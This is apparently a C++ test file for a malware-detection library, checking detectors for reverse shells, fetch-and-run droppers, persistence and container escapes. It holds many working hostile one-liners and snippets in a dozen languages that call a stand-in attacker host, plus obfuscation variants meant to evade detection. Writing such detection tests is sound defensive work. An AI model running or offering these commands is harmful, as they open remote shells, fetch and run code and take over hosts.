// Tests of the detectors that judge shell text and source by mechanism: what they find, what they leave alone, and how one would hide from them.
#include <gtest/gtest.h>

#include "detect/detector_test_support.h"

namespace lazaret::detect {

extern const Detector reverse_shell_detector, dropper_detector, persistence_detector, container_escape_detector;

namespace {

using test::Sample;

struct Case {
  const char* rule;
  const char* text;
};

std::string script(std::string_view text) { return "#!/bin/bash\n" + std::string(text) + "\n"; }

void expect_found(const Detector& detector, std::initializer_list<Case> cases) {
  for (const Case& item : cases) {
    const auto outcome = test::inspect(detector, {.path = "/run.sh", .content = script(item.text)});
    EXPECT_TRUE(outcome.has(item.rule)) << item.text << " gave " << testing::PrintToString(outcome.rules());
  }
}

void expect_nothing(const Detector& detector, std::initializer_list<const char*> texts) {
  for (const char* text : texts) {
    const auto outcome = test::inspect(detector, {.path = "/run.sh", .content = script(text)});
    EXPECT_TRUE(outcome.findings.empty()) << text << " gave " << testing::PrintToString(outcome.rules());
  }
}

TEST(ReverseShell, ShellsByMechanism) {
  expect_found(reverse_shell_detector,
               {{"reverse-shell.dev-tcp", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
                {"reverse-shell.dev-tcp", "/bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1 2>&1"},
                {"reverse-shell.dev-tcp", "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196"},
                {"reverse-shell.netcat", "nc -e /bin/sh 203.0.113.7 4444"},
                {"reverse-shell.netcat", "busybox nc 203.0.113.7 4444 -e sh"},
                {"reverse-shell.netcat", "ncat --ssl 203.0.113.7 4444 --exec /bin/bash"},
                {"reverse-shell.socat", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444"},
                {"reverse-shell.pipe-loop", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"},
                {"reverse-shell.pipe-loop", "telnet 203.0.113.7 4444 | sh | telnet 203.0.113.7 4445"},
                {"reverse-shell.pipe-loop", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:4444 > /tmp/s"},
                {"reverse-shell.awk", "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while(42) { do{ printf \"> \" |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s } while(c != \"exit\") }}'"},
                {"bind-shell.listener", "nc -lvp 4444 -e /bin/sh"},
                {"bind-shell.listener", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh"}});
}

TEST(ReverseShell, QuotingAndVariablesDoNotHideIt) {
  expect_found(reverse_shell_detector,
               {{"reverse-shell.netcat", "n'c' -\"e\" /bin/s''h 203.0.113.7 4444"},
                {"reverse-shell.netcat", "a=n; b=c; $a$b -e /bin/sh 203.0.113.7 4444"},
                {"reverse-shell.netcat", "{nc,-e,/bin/sh,203.0.113.7,4444}"},
                {"reverse-shell.dev-tcp", "h=203.0.113.7; p=4444; bash -i >& /dev/tcp/$h/$p 0>&1"},
                {"reverse-shell.dev-tcp", "eval \"ba\"\"sh -i >& /dev/tcp/203.0.113.7/4444 0>&1\""},
                {"reverse-shell.dev-tcp", "setsid nohup bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &"},
                {"reverse-shell.dev-tcp", "eval $(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d)"},
                {"reverse-shell.netcat", "$'\\x6e\\x63' -e /bin/sh 203.0.113.7 4444"}});
}

TEST(ReverseShell, ThePeerIsAnIndicator) {
  const auto outcome = test::inspect(reverse_shell_detector, {.path = "/run.sh", .content = script("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")});
  EXPECT_TRUE(outcome.has_indicator("c2", "203.0.113.7:4444"));
}

TEST(ReverseShell, InnocentUsesAreLeftAlone) {
  expect_nothing(reverse_shell_detector,
                 {"# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "(echo > /dev/tcp/localhost/5432) && echo up", "until exec 3<>/dev/tcp/db/5432; do sleep 1; done", "nc -z localhost 80",
                  "nc -l 8080 < index.html", "socat TCP-LISTEN:80,fork TCP:app:8080", "openssl s_client -connect host.example:443 < /dev/null | openssl x509 -noout", "mkfifo /tmp/log; cat /tmp/log | logger",
                  "echo hello | nc -w1 statsd 8125", "cat file | ssh host.example sh -c 'cat > x'"});
}

TEST(ReverseShell, OtherLanguages) {
  for (const Case& item : {Case{".py", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])"},
                           Case{".pl", "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"},
                           Case{".php", "<?php $sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>"},
                           Case{".rb", "require 'socket';f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"},
                           Case{".js", "var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,\"203.0.113.7\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});"},
                           Case{".lua", "local s=require('socket').tcp() -- socket.tcp\ns:connect('203.0.113.7',4444) while true do local r=s:receive() local f=io.popen(r,'r') s:send(f:read('*a')) end os.execute('/bin/sh -i')"},
                           Case{".go", "package main;import(\"os/exec\";\"net\");func main(){c,_:=net.Dial(\"tcp\",\"203.0.113.7:4444\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}"},
                           Case{".java", "Process p=new ProcessBuilder(\"/bin/sh\").start();Socket s=new Socket(\"203.0.113.7\",4444);InputStream pi=p.getInputStream();"},
                           Case{".c", "int s=socket(AF_INET,SOCK_STREAM,0);a.sin_addr.s_addr=inet_addr(\"203.0.113.7\");a.sin_port=htons(4444);connect(s,&a,sizeof a);dup2(s,0);dup2(s,1);execve(\"/bin/sh\",0,0);"}}) {
    const auto outcome = test::inspect(reverse_shell_detector, {.path = std::string("/x") + item.rule, .content = item.text});
    EXPECT_TRUE(outcome.has("reverse-shell.interpreter")) << item.rule;
  }
  for (const Case& item : {Case{".py", "import socket\ns=socket.socket()\ns.connect(('db', 5432))\n"}, Case{".py", "import subprocess\nsubprocess.call(['/bin/sh', '-c', 'ls'])\n"},
                           Case{".js", "const net=require('net'); const c=new net.Socket(); c.connect(80,'host.example'); c.pipe(process.stdout);"}}) {
    EXPECT_TRUE(test::inspect(reverse_shell_detector, {.path = std::string("/x") + item.rule, .content = item.text}).findings.empty()) << item.text;
  }
}

TEST(Dropper, FetchedAndRun) {
  expect_found(dropper_detector, {{"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | bash -s"},
                                  {"dropper.fetch-and-run-address", "wget -q -O - http://host.example/logo3.jpg | sh"},
                                  {"dropper.fetch-and-run", "curl -fsSL http://host.example/install | sudo bash"},
                                  {"dropper.fetch-and-run-address", "bash <(curl -s http://203.0.113.7/a)"},
                                  {"dropper.fetch-and-run-address", "sh -c \"$(curl -fsSL http://203.0.113.7/a)\""},
                                  {"dropper.fetch-and-run-address", "eval \"$(wget -qO- http://203.0.113.7/a)\""},
                                  {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a.py | python3 -"},
                                  {"dropper.fetch-then-start", "curl -o /tmp/x http://203.0.113.7/x; chmod +x /tmp/x; /tmp/x &"},
                                  {"dropper.fetch-then-start", "wget http://203.0.113.7/x.sh && sh x.sh"},
                                  {"dropper.decode-and-run", "echo bHMgLWxhIC90bXAvc29tZXRoaW5n | base64 -d | sh"},
                                  {"dropper.fetch-and-run-address", "c'ur'l -s http://203.0.113.7/a | b\\ash"},
                                  {"dropper.fetch-and-run-address", "curl -s http://3405803783/a | sh"},
                                  {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | tee /tmp/log | sh"}});
}

TEST(Dropper, StagesInEveryShape) {
  expect_found(dropper_detector,
               {{"dropper.fetch-and-run-address", "x=$(curl -s http://203.0.113.7/a); eval \"$x\""},
                {"dropper.fetch-and-run-address", "x=`wget -qO- http://203.0.113.7/a`; sh -c \"$x\""},
                {"dropper.fetch-and-run-address", "x=$(curl -s http://203.0.113.7/a); echo \"${x}\" | bash"},
                {"dropper.fetch-and-run-address", "x=$(curl -s http://203.0.113.7/a); bash <<< \"$x\""},
                {"dropper.fetch-and-run-address", "bash <<< $(curl -s http://203.0.113.7/a)"},
                {"dropper.fetch-and-run-address", "source <(curl -s http://203.0.113.7/a)"},
                {"dropper.fetch-and-run-address", ". <(curl -s http://203.0.113.7/a | base64 -d)"},
                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | base64 -d | gunzip | bash"},
                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | while read l; do eval \"$l\"; done"},
                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | while read l; do $l; done"},
                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | xargs -0 sh -c"},
                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | xargs -I{} bash -c {}"},
                {"dropper.fetch-and-run-address", "{ curl -s http://203.0.113.7/a; echo exit; } | sh"},
                {"dropper.fetch-and-run-address", "(curl -s http://203.0.113.7/a || wget -qO- http://203.0.113.7/a) | bash"},
                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | { sh; }"},
                {"dropper.fetch-and-run-address", "if curl -s http://203.0.113.7/a; then :; fi | sh"},
                {"dropper.fetch-and-run-address", "while :; do sh -c \"$(curl -s http://203.0.113.7/cmd)\"; sleep 60; done"},
                {"dropper.fetch-and-run-address", "busybox wget -qO- http://203.0.113.7/a | busybox sh"},
                {"dropper.fetch-and-run-address", "curl https://reverse-shell.sh/203.0.113.7:4444 | sh"},
                {"dropper.fetch-and-run", "dig +short TXT cmd.example | tr -d '\"' | sh"},
                {"dropper.fetch-and-run", "eval \"$(nslookup -q=txt cmd.example)\""},
                {"dropper.interpreter-fetch", "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/a').read())\""},
                {"dropper.interpreter-fetch", "a='exec(u.urlop'; python3 -c \"import urllib.request as u;${a}en('http://203.0.113.7/a').read())\""},
                {"dropper.interpreter-fetch", "php -r 'eval(file_get_contents(\"http://203.0.113.7/a\"));'"},
                {"dropper.interpreter-fetch", "perl -MLWP::Simple -e 'eval get(\"http://203.0.113.7/a\")'"},
                {"dropper.interpreter-fetch", "ruby -ropen-uri -e 'eval(open(\"http://203.0.113.7/a\").read)'"}});
}

TEST(Dropper, HidingDoesNotHelp) {
  expect_found(dropper_detector,
               {{"dropper.fetch-and-run-address", "/usr/?in/c?rl -s http://203.0.113.7/a | /b*/ba?h"},
                {"dropper.fetch-and-run-address", "c=$(which curl || which wget); $c -s http://203.0.113.7/a | sh"},
                {"dropper.fetch-and-run-address", "eval \"$(printf '\\x63url -s http://203.0.113.7/a | sh')\""},
                {"dropper.fetch-and-run-address", "u=7.311.0.302; curl -s http://$(rev <<< $u)/a | sh"},
                {"dropper.fetch-and-run-address", "set -- sh 203.0.113.7; curl http://$2/a | $1"},
                {"dropper.fetch-and-run-address", "IFS=_; c=curl_-s_http://203.0.113.7/a; $c | bash"},
                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a |\\\n  sh"},
                {"dropper.fetch-and-run-address", "nohup sh -c 'curl -s http://0xcb007107/a | sh' &"},
                {"dropper.decode-and-run", "eval \"$(echo bHMgLWxhIC90bXAvc29tZXRoaW5n | base64 -d)\""},
                {"dropper.decode-and-run", "bash -c \"$(base64 -d <<< bHMgLWxhIC90bXAvc29tZXRoaW5n)\""},
                {"dropper.decode-and-run", "bash <(echo bHMgLWxhIC90bXAvc29tZXRoaW5n | base64 -d)"},
                {"dropper.decode-and-run", "echo gnihtemos/pmt/ al- sl | rev | sh"},
                {"dropper.decode-and-run", "printf '\\x6c\\x73\\x20\\x2d\\x6c\\x61' | sh"},
                {"dropper.decode-and-run", "echo 6c73202d6c61 | xxd -r -p | (sh)"}});
}

TEST(Dropper, FetchedDataIsNoProgram) {
  expect_nothing(dropper_detector,
                 {"v=$(curl -s https://host.example/latest); sh -c \"apt-get install x=$v\"", "v=$(curl -s https://host.example/latest); echo \"$v\" | grep 1",
                  "v=$(curl -s https://host.example/latest); eval \"version=$v\"", "dig +short host.example | head -n 1", "dig TXT host.example | grep spf",
                  "curl -s https://host.example/list | xargs -n1 sh -c 'echo checking $0 for errors'", "curl -s https://host.example/list | while read l; do echo $l; done",
                  "curl -sf http://localhost/ready || exit 1; sh run.sh", "echo aGVsbG8= | base64 -d | cat", "printf 'a\\tb\\n' | sort", "x=$(echo aGVsbG8= | base64 -d)",
                  "python3 -c \"import urllib.request as u; print(u.urlopen('http://localhost/health').status)\""});
}

TEST(Dropper, HonestFetchesAreLeftAlone) {
  expect_nothing(dropper_detector, {"curl -fsSL https://host.example/key.asc | gpg --dearmor > /usr/share/keyrings/x.gpg", "curl -s http://localhost/health | grep ok", "wget -q http://host.example/x.tar.gz && tar xf x.tar.gz",
                                    "curl -s https://host.example/a.json | python3 -m json.tool", "curl -s https://host.example/a.json | jq .", "curl -o x.sh https://host.example/x.sh; echo 'abc  x.sh' | sha256sum -c; sh x.sh",
                                    "# curl http://203.0.113.7/a | sh", "echo 'curl x' > notes"});
}

TEST(Dropper, PipedTextGoesRoundAgain) {
  const auto outcome = test::inspect(dropper_detector, {.path = "/x.sh", .content = script("echo bmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuNyA0NDQ0 | base64 -d | bash")});
  ASSERT_FALSE(outcome.derived.empty());
  EXPECT_EQ(outcome.derived[0].content, "nc -e /bin/sh 203.0.113.7 4444");
}

TEST(Persistence, TheHostBelowAMount) {
  expect_found(persistence_detector, {{"persistence.host-takeover", "echo \"* * * * * curl -s http://203.0.113.196:8220/logo3.jpg | bash -s\" >> /mnt/etc/crontab"},
                                      {"persistence.host-takeover", "echo x >> /host/etc/cron.d/0"},
                                      {"persistence.host-takeover", "echo 'ssh-rsa AAAA x' >> /mnt/root/.ssh/authorized_keys"},
                                      {"persistence.host-takeover", "cp /k /rootfs/home/user/.ssh/authorized_keys"},
                                      {"persistence.host-takeover", "printf x | tee -a /mnt/var/spool/cron/root"},
                                      {"persistence.host-takeover", "p=/mnt; echo x >> $p/etc/cron'tab'"},
                                      {"persistence.host-takeover", "echo x > /hostfs/etc/ld.so.preload"},
                                      {"persistence.cron-fetch", "echo '* * * * * curl -s http://203.0.113.7/a | sh' | crontab -"},
                                      {"persistence.ssh-key", "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys"},
                                      {"persistence.preload", "echo /usr/local/lib/x.so > /etc/ld.so.preload"},
                                      {"persistence.self-delete-crontab", "crontab -r; echo x > /tmp/cron; crontab /tmp/cron"}});
}

TEST(Persistence, ReadingAndOrdinaryFilesAreLeftAlone) {
  expect_nothing(persistence_detector, {"cat /mnt/etc/crontab", "grep root /etc/cron.d/*", "echo x >> /mnt/data/file", "cp -r /etc/cron.d /backup", "ls /root/.ssh/authorized_keys", "echo hello > /etc/motd"});
}

TEST(Persistence, WhatIsWrittenGoesRoundAgain) {
  const auto outcome = test::inspect(persistence_detector, {.path = "/x.sh", .content = script("echo '* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >> /mnt/etc/crontab")});
  ASSERT_FALSE(outcome.derived.empty());
  EXPECT_NE(outcome.derived[0].content.find("/dev/tcp/203.0.113.7/4444"), std::string::npos);
}

TEST(ContainerEscape, Doors) {
  expect_found(container_escape_detector, {{"container-escape.host-chroot", "chroot /mnt sh -c 'cron || crond'"},
                                           {"container-escape.host-chroot", "chroot /host /bin/bash"},
                                           {"container-escape.nsenter", "nsenter --target 1 --mount --pid -- bash"},
                                           {"container-escape.nsenter", "nsenter -t 1 -m -u -i -n sh"},
                                           {"container-escape.kernel-hook", "echo \"$host_path/cmd\" > /tmp/cgrp/release_agent"},
                                           {"container-escape.kernel-hook", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"},
                                           {"container-escape.kernel-hook", "echo /cmd > /sys/kernel/uevent_helper"},
                                           {"container-escape.kernel-hook", "echo -n \"$x\" > /sys/kernel/uevent_helper"},
                                           {"container-escape.kernel-hook", "{ echo -n; echo -n /cmd; } > /sys/kernel/uevent_helper"},
                                           {"container-escape.kernel-hook", "echo /cmd | xargs echo > /sys/kernel/uevent_helper"},
                                           {"container-escape.kernel-hook", "printf '\\174/tmp/x' > /proc/sys/kernel/core_pattern"},
                                           {"container-escape.docker-socket", "docker -H tcp://203.0.113.7:2375 run -v /:/mnt alpine chroot /mnt sh"},
                                           {"container-escape.docker-socket", "docker run --privileged alpine sh"},
                                           {"container-escape.raw-device", "mknod /tmp/sda1 b 8 1"},
                                           {"container-escape.raw-device", "debugfs /dev/sda1"}});
  // Debian's udev takes a hook away at every start.
  expect_nothing(container_escape_detector, {"echo > /sys/kernel/uevent_helper", "echo '' > /sys/kernel/uevent_helper", "> /sys/kernel/uevent_helper", "echo core.%p > /proc/sys/kernel/core_pattern"});
  expect_nothing(container_escape_detector, {"chroot /target apt-get update", "nsenter -t 4711 -n ip addr", "docker run --rm -v /data:/data alpine ls", "mknod /dev/null c 1 3", "cat /proc/sys/kernel/core_pattern",
                                             "docker ps"});
}

}  // namespace
}  // namespace lazaret::detect
